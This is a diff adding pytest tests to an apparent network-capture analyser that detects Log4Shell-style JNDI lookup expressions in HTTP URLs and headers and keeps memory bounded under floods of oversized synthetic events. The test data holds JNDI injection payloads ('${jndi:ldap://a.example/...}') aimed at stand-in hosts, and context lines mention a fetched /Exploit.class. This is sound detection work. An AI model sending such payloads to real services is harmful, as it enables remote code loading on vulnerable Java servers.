@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
+import orjson
 import pytest
 
 import khien
 from khien.capture import deeds as module
+from khien.capture import tally
 from khien.capture.deeds import Deeds, _domain_of
 from khien.capture.tally import Row
+from tests.engine.packet.conftest import pcap_bytes
+from tests.traffic.case import REPLY, Talk
 
 ROOT = Path(__file__).resolve().parents[3]
 
@@ -87,6 +93,55 @@ def test_what_log4shell_fetched_and_searched_is_told(test_data: Path) -> None:
     assert any(row["target"] == "/Exploit.class" for row in rows(deeds, "requests"))
     assert any(row["agent"] == "Java/1.8.0_102" for row in rows(deeds, "agents"))
     assert [(row["base"], row["entries"]) for row in rows(deeds, "searches")] == [("a", 1)]
+
+
+def test_an_expression_is_found_wherever_a_request_carries_it(tmp_path: Path) -> None:
+    talk = Talk()
+    head = (
+        "GET /?q=${jndi:ldap://a.example/url} HTTP/1.1\r\nHost: b.example\r\nX-Api-Version: ${jndi:ldap://a.example/head}\r\n\r\n"
+    )
+    path = tmp_path / "expressions.pcap"
+    frames = [*talk.opening(), *talk.says(head.encode()), *talk.says(REPLY, client=False), *talk.closing()]
+    path.write_bytes(pcap_bytes((float(number), frame) for number, frame in enumerate(frames, 1)))
+    found = {row["place"]: row["text"] for row in rows(told(path), "expressions")}
+    assert found == {"url": "/?q=${jndi:ldap://a.example/url}", "X-Api-Version": "${jndi:ldap://a.example/head}"}
+
+
+def test_a_day_without_an_attack_on_expressions_has_none(recording: Deeds) -> None:
+    assert rows(recording, "expressions") == []
+
+
+def hostile(number: int) -> Iterator[dict[str, Any]]:
+    """Events whose every text is new and as long as a sender likes."""
+    text = f"{number}-" + "x" * 5_000
+    ends = {"source": {"ip": f"2001:db8::{number:x}", "port": 1}, "destination": {"ip": "192.0.2.1", "port": 2}}
+    common = {**ends, "@timestamp": "2026-11-23T00:00:00.000000Z", "network": {"protocol": text}, "khien": {"packet": number}}
+    members: dict[str, dict[str, Any]] = {
+        "dns": {"dns": {"type": "query", "question": {"name": text, "type": "A"}}},
+        "tls": {"tls": {"client": {"server_name": text, "ja4": text}}},
+        "http": {"url": {"original": f"${{{text}", "domain": text}, "user_agent": {"original": text}},
+        "dcerpc": {"dcerpc": {"endpoint": text, "operation": text}},
+        "smb": {"smb": {"share": text}, "file": {"path": text}},
+        "ldap": {"ldap": {"request": {"search_request": {"base_object": text, "filter": text}}}},
+        "smtp": {"email": {"from": {"address": [text] * 50}, "to": {"address": [text + str(place) for place in range(50)]}}},
+        "anomaly": {},
+    }
+    actions = {"tls": "tls-handshake", "dcerpc": "dcerpc-call", "smb": "smb-open", "smtp": "mail-message", "anomaly": text[:100]}
+    for name, own in members.items():
+        head = {"dataset": f"network.{name}", "action": actions.get(name, "x"), "category": ["authentication"], "type": ["start"]}
+        yield {**common, **own, "event": head, "user": {"name": text, "domain": text}}
+
+
+def test_a_capture_full_of_new_names_takes_bounded_memory(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(tally, "MOST_KEPT", 100)
+    deeds = Deeds()
+    for number in range(1_000):
+        for event in hostile(number):
+            deeds.add(event)
+    assert {name: found.distinct <= 200 for name, found in deeds.topics.items()} == dict.fromkeys(module.TOPICS, True)
+    assert not any(found.is_whole for found in deeds.topics.values())
+    # Two hundred rows of twelve lists, each of some texts that are cut at 256 characters.
+    assert len(orjson.dumps(deeds.as_json(200))) < 12 * 200 * 20 * 256
 
 
 @pytest.mark.parametrize(
